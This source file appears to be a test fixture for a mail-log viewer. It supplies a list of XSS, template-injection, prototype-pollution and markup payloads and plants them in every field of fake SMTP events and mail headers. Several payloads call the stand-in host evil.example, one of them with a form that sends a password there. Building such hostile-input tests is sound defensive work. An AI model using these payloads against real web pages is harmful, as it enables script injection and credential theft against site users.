// SPDX-License-Identifier: Apache-2.0
// What somebody might say to a mail server in the hope that a page runs it.
export const HOSTILE = [
	"<script>hacked=1</script>",
	"<img src=x onerror=hacked=1>",
	"\"><svg onload=hacked=1>",
	"'-hacked=1-'",
	"javascript:hacked=1",
	"<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
	"<a href=\"javascript:hacked=1\">x</a>",
	"<style>*{display:none}</style>",
	"<link rel=stylesheet href=//evil.example/x.css>",
	"<meta http-equiv=refresh content='0;url=//evil.example'>",
	"<base href=//evil.example/>",
	"{{constructor.constructor('hacked=1')()}}",
	"${hacked=1}",
	"</textarea><script>hacked=1</script>",
	"]]><script>hacked=1</script>",
	"<math><mtext><table><mglyph><style><img src=x onerror=hacked=1>",
	"\u202e<script>hacked=1</script>\u2066",
	"<form action=//evil.example><input name=password></form>",
	"__proto__",
	"%3Cscript%3Ehacked=1%3C/script%3E",
	"<object data=//evil.example></object>",
	"<details open ontoggle=hacked=1>",
];

const KINDS = {
	connect: (x) => ({ protocol: "smtp", listener: x, peer: x, local: x, via: x, outgoing: 0 }),
	command: (x) => ({ verb: x.includes("svg") ? x : "MAIL", line: x.startsWith("<") ? x : `MAIL FROM:<${x}> ${x}=${x}` }),
	reply: (x) => ({ code: 250, line: x.includes("img") ? `250-${x}` : `250 2.1.0 ${x}`, more: 0, verb: x.includes("svg") ? x : "EHLO", us: 1 }),
	tls: (x) => ({ version: x, cipher: x, group: x, server_name: x, resumed: 0, implicit: 0, us: 1, failure: "" }),
	auth: (x) => ({ mechanism: x, step: 0, outcome: x, account: x, us: 1 }),
	state: (x) => ({ from: x, to: x }),
	policy: (x) => ({ rule: x, verdict: x, detail: x, source: x }),
	data: (x) => ({ how: x, octets: 9, total: 9, last: 1, unstuffed: 1, us: 1 }),
	inspect: (x) => ({ message: x, verdict: x, parts: 1, depth: 1, detail: x, us: 1 }),
	accept: (x) => ({ message: x, sender: x, recipients: x, octets: 1, us: 1, peer: x, subject: x }),
	dns: (x) => ({ question: x, type: x, server: x, outcome: x, answer: x, ttl: 1, cached: 0, secure: 1, tcp: 0, us: 1 }),
	deliver: (x) => ({ message: x, recipient: x, account: x, folder: x, uid: 1, outcome: x }),
	attempt: (x) => ({ message: x, recipient: x, outcome: x, code: 250, enhanced: x, reply: x, peer: x, attempts: 1, next_us: 1 }),
	trouble: (x) => ({ err: x, detail: x }),
};

/* Every kind of event with something hostile in every text, and kinds and members that nobody knows. */
export function hostileEvents() {
	const events = [];
	const add = (kind, fields) => events.push({
		v: 1, kind, session: "HOSTILE", time: "2026-11-22T00:00:00Z", wall_us: 1_795_000_000_000_000, at_us: events.length * 1000, sequence: events.length,
		role: "gate-mx", role_index: 0, cut: false, masked: false, encrypted: true, fields,
	});
	add("connect", KINDS.connect(HOSTILE[0]));
	let next = 0;
	for (const kind of Object.keys(KINDS))
		for (let i = 0; i < 3; i++)
			if (kind !== "connect")
				add(kind, KINDS[kind](HOSTILE[next++ % HOSTILE.length]));
	for (const text of HOSTILE)
		add("reply", KINDS.reply(text));
	add(HOSTILE[1], { x: HOSTILE[0] });
	events.push(JSON.parse('{"v":1,"kind":"command","session":"HOSTILE","time":"","wall_us":0,"at_us":90000,"sequence":9999,"role":"x","role_index":0,"fields":{"__proto__":{"polluted":1},"constructor":"x","verb":"toString","line":"hasOwnProperty"}}'));
	/* Words that every object of the language knows, and a time that no calendar has. */
	add("state", { from: "toString", to: "constructor" });
	add("trouble", { err: "valueOf", detail: "constructor", constructor: "toString", hasOwnProperty: "x" });
	add("accept", { ...KINDS.accept("constructor"), valueOf: "x" });
	events.at(-1).wall_us = 1e300;
	add("close", { reason: HOSTILE[3], account: HOSTILE[1], commands: 1, errors: 1, messages: 1, octets_in: 1, octets_out: 1, us: 1, peer: HOSTILE[1], protocol: HOSTILE[1] });
	return events;
}

export function hostileHeader(text) {
	const line = text.replace(/[\r\n]/g, " ");
	return `Received: from ${line} (${line}) by ${line} with ${line} id ${line} for <${line}>; Sun, 22 Nov 2026 10:00:00 +0000\nX-${line.replace(/[^a-z]/gi, "")}: ${line}\nSubject: ${line}\nFrom: ${line} <${line}@evil.example>\n\n${line}\n`;
}
